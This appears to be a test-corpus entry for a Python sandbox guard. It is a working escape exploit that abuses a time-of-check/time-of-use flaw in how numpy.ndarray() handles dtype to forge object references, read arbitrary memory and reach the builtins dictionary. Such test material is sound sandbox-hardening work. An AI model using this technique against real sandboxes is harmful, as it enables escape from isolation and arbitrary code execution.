# technique: the C guard on numpy.ndarray() converts dtype once itself, numpy converts it again: an object whose .dtype says uint64 first and object second gets an object array over a caller's buffer (forged reference)
# source: sandbox/pyguard.c guarded_ndarray_new (time-of-check/time-of-use on the dtype argument)
import numpy as np

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

n = [0]
class D:
    @property
    def dtype(self):
        n[0] += 1
        return np.dtype('u8') if n[0] % 2 == 1 else np.dtype(object)
def fakeobj(addr):
    n[0] = 0
    return np.ndarray((1,), dtype=D(), buffer=bytearray(addr.to_bytes(8, 'little')))[0]
def q(v): return v.to_bytes(8, 'little')
fake = bytes(q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(0))
def builtins_dict():
    mem = fakeobj(id(fake) + 32)   # a bytearray over the whole address space
    return fakeobj(int.from_bytes(mem[id(np.linalg.norm) + 24:id(np.linalg.norm) + 32], 'little'))
attempt('ndarray(dtype=<.dtype u8 then O>, buffer=...)', builtins_dict)
